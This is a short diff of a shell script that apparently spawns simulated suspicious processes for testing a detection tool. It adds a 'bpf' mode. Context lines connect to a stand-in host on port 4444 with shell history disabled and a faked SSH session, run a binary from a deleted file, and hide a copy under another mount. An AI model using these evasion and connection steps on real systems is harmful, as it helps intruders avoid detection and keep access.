@@ -33,6 +33,7 @@ sleep 1
 SSH_CONNECTION="198.51.100.7 51000 192.0.2.10 22" HISTFILE=/dev/null $g connect 203.0.113.66:4444 &
 $g udp 0.0.0.0:5353 &
 $g packet &
+$g bpf &
 $g held /tmp/held-and-gone &
 # Below another mount, and in a unit.
 cp $g /srv/data/worker
